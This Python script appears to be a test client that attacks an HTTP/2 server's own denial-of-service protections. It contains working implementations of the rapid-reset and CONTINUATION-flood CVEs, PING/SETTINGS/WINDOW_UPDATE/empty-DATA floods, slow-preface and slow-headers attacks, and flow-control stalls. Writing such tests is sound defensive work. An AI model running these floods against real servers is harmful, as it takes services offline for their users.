#!/usr/bin/env python3
"""A hostile HTTP/2 client for the server's protection tests: raw frames, HPACK from the `hpack`
package (installed with `h2`). One attack per run; a reader thread reports what the server sends
back, one JSON object per line: {"t": seconds since connect, "event": ...}. Every wait is bounded
by --max-time; loopback only.

Attacks (--attack; `all` runs the floods in turn for --duration at --rate, for benchmarks):
  rapid-reset     HEADERS then RST_STREAM(CANCEL), over and over (CVE-2023-44487)
  continuation    HEADERS without END_HEADERS, then endless small CONTINUATION frames (CVE-2024-27316)
  ping-flood      open a slow request, then PING after PING
  settings-flood  SETTINGS after SETTINGS
  empty-data      open an upload, then DATA frames with no payload
  window-update   WINDOW_UPDATE(stream 0, +1) after WINDOW_UPDATE
  header-size     one header block of --size bytes (HEADERS + CONTINUATION)
  slow-preface    half the client preface, then nothing
  slow-headers    preface and SETTINGS, then HEADERS without END_HEADERS, then nothing
  idle            preface and SETTINGS, then nothing (holds a connection for max-connections tests)
  stall           GET --path (a large response), never send WINDOW_UPDATE, keep the socket open
"""
import argparse, json, os, socket, struct, sys, threading, time

import hpack

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from rawh2 import *  # noqa: E402,F403  frame types, flags, frame(), split_frames(), emitter()


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--attack", required=True)
    ap.add_argument("--count", type=int, default=1000, help="frames (or streams) in the flood")
    ap.add_argument("--size", type=int, default=20000, help="header-size: header block bytes")
    ap.add_argument("--path", default="/")
    ap.add_argument("--max-time", type=float, default=20.0)
    ap.add_argument("--duration", type=float, default=10.0, help="--attack all: keep attacking this long")
    ap.add_argument("--rate", type=float, default=20.0, help="--attack all: at most this many attacks per second")
    args = ap.parse_args()
    if args.attack != "all":
        attack_once(args, args.attack)
        return
    # One process, every flood in turn on a fresh connection each time (scripts/bench-attack).
    floods = ["rapid-reset", "continuation", "ping-flood", "settings-flood", "empty-data", "window-update", "header-size"]
    end = time.monotonic() + args.duration
    i = 0
    while time.monotonic() < end:
        began = time.monotonic()
        try:
            attack_once(args, floods[i % len(floods)])
        except OSError as e:
            print(json.dumps({"event": "error", "error": repr(e)}), flush=True)
        i += 1
        time.sleep(max(0.0, 1.0 / args.rate - (time.monotonic() - began)))


def attack_once(args, a):
    start = time.monotonic()
    emit = emitter()

    enc = hpack.Encoder()
    sock = socket.create_connection((args.host, args.port), timeout=args.max_time)
    closed = threading.Event()
    settings_acked = threading.Event()
    ack_pings = a not in ("stall",)

    def send(data):
        try:
            sock.sendall(data)
            return True
        except OSError as e:
            if not closed.is_set():
                emit("send_failed", error=type(e).__name__)
            return False

    def reader():
        buf = b""
        while time.monotonic() - start < args.max_time:
            try:
                sock.settimeout(max(0.05, args.max_time - (time.monotonic() - start)))
                data = sock.recv(65535)
            except socket.timeout:
                break
            except OSError as e:
                emit("closed", how=type(e).__name__)
                closed.set()
                return
            if not data:
                emit("closed", how="eof")
                closed.set()
                return
            buf += data
            frames, buf = split_frames(buf)
            for ftype, flags, stream, payload in frames:
                if ftype == GOAWAY:
                    last, code, debug = goaway_fields(payload)
                    emit("goaway", stream=stream, last_stream_id=last, error_code=code, debug=debug)
                elif ftype == SETTINGS and not flags & ACK and a != "slow-preface":
                    send(frame(SETTINGS, ACK, 0))
                    settings_acked.set()
                elif ftype == PING and not flags & ACK and ack_pings:
                    send(frame(PING, ACK, 0, payload))
                elif ftype == HEADERS:
                    emit("response", stream=stream)
                elif ftype == RST_STREAM:
                    pass
        emit("timeout")
        closed.set()

    def request_block(path):
        return enc.encode([(":method", "GET"), (":scheme", "http"), (":authority", f"{args.host}:{args.port}"), (":path", path)])

    if a == "slow-preface":
        send(PREFACE[:12])
    else:
        # Stall: a 0-byte initial stream window would be too easy to spot; the default 65535 is used
        # up by the first 64 KiB and never reopened.
        send(PREFACE + frame(SETTINGS, 0, 0))
    t = threading.Thread(target=reader, daemon=True)
    t.start()
    emit("attack_started", attack=a)

    if a == "rapid-reset":
        sid = 1
        for _ in range(args.count):
            if closed.is_set() or not send(frame(HEADERS, END_STREAM | END_HEADERS, sid, request_block("/delay/1000"))
                                           + frame(RST_STREAM, 0, sid, struct.pack(">I", 8))):
                break
            sid += 2
    elif a == "continuation":
        block = request_block("/")
        ok = send(frame(HEADERS, END_STREAM, 1, block[:4]))
        for _ in range(args.count):
            if not ok or closed.is_set():
                break
            ok = send(frame(CONTINUATION, 0, 1, b""))
    elif a == "ping-flood":
        send(frame(HEADERS, END_STREAM | END_HEADERS, 1, request_block("/delay/10000")))
        for i in range(args.count):
            if closed.is_set() or not send(frame(PING, 0, 0, struct.pack(">Q", i))):
                break
    elif a == "settings-flood":
        for _ in range(args.count):
            if closed.is_set() or not send(frame(SETTINGS, 0, 0)):
                break
    elif a == "empty-data":
        send(frame(HEADERS, END_HEADERS, 1, enc.encode([(":method", "POST"), (":scheme", "http"),
                                                       (":authority", "x"), (":path", "/echo")])))
        for _ in range(args.count):
            if closed.is_set() or not send(frame(DATA, 0, 1, b"")):
                break
    elif a == "window-update":
        for _ in range(args.count):
            if closed.is_set() or not send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))):
                break
    elif a == "header-size":
        block = enc.encode([(":method", "GET"), (":scheme", "http"), (":authority", "x"), (":path", "/"),
                            ("x-big", "a" * args.size)], huffman=False)
        send(frame(HEADERS, END_STREAM, 1, block[:16384]) + frame(CONTINUATION, END_HEADERS, 1, block[16384:]))
    elif a == "slow-headers":
        # After our SETTINGS ack: a frame between HEADERS and its CONTINUATION is a protocol error.
        settings_acked.wait(args.max_time)
        send(frame(HEADERS, END_STREAM, 1, request_block("/")[:3]))
    elif a == "stall":
        send(frame(HEADERS, END_STREAM | END_HEADERS, 1, request_block(args.path)))
    elif a in ("idle", "slow-preface"):
        pass
    else:
        print(json.dumps({"event": "error", "error": f"unknown attack {a}"}), flush=True)
        sys.exit(2)
    emit("attack_sent")
    t.join(args.max_time)
    sock.close()


if __name__ == "__main__":
    run_client(main)
